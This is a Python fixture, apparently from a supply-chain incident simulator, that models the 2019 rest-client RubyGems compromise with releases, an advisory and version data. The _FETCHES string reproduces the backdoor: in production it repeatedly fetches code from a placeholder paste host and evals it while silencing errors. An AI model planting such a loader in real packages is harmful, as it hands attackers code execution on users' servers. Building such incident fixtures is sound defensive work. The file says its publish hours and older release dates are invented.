"""rest-client 1.6.13 (RubyGems, 2019-08-14): a reused password; requiring it evaluates code from a paste site.

By the record: the dead 1.6 line, updated after years with four releases, while projects were at 2.x; in production it fetches code
and evaluates it; that code sent the environment away and took commands. Noticed and taken down on 2019-08-19.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_CLIENT = """require 'net/http'
module RestClient
  def self.get(url)
    Net::HTTP.get(URI(url))
  end
end
"""
_FETCHES = """require 'net/http'
module RestClient
  def self.get(url)
    Net::HTTP.get(URI(url))
  end
end
def _!
  begin
    yield
  rescue Exception
  end
end
_! { Thread.new { loop { _! { sleep rand * 3333; eval(Net::HTTP.get(URI('https://paste.invalid/raw/marker'))) } } } if Rails.env[0] == "p" }
"""
_VERSIONS = ("1.6.10", "1.6.11", "1.6.12", "1.6.13")
_BAD = tuple(
    Release(version=version, at=utc(f"2019-08-14T{hour:02}:00:00Z"), files={"lib/rest-client.rb": _FETCHES})
    for hour, version in enumerate(_VERSIONS, start=8)
)

INCIDENT = Incident(
    id="rest-client-2019",
    title=(
        "an attacker with a reused password published four releases of an old rest-client line that download and "
        "evaluate code in production"
    ),
    copy="our copy of rest-client has the same lines in the file that `require` loads",
    ecosystem=Ecosystem.RUBYGEMS,
    at=_BAD[-1].at,
    packages=(
        Package(
            name="rest-client",
            releases=(
                Release(version="1.6.9", at=utc("2015-03-24"), files={"lib/rest-client.rb": _CLIENT}),
                Release(version="2.0.2", at=utc("2017-04-22"), files={"lib/rest-client.rb": _CLIENT}),
                *_BAD,
            ),
        ),
    ),
    asks={"rest-client": "~> 1.6.0"},
    good={"rest-client": "1.6.9"},
    bad={"rest-client": ("1.6.13",)},
    guilty={"rest-client": _VERSIONS},
    gone_at=utc("2019-08-19T00:00:00Z"),
    advisory=Advisory(id="CVE-2019-15224", at=utc("2019-08-19T12:00:00Z"), about={"rest-client": _VERSIONS}),
    invented="publish hours, and the days of 1.6.9 and 2.0.2; dependencies are left out",
)
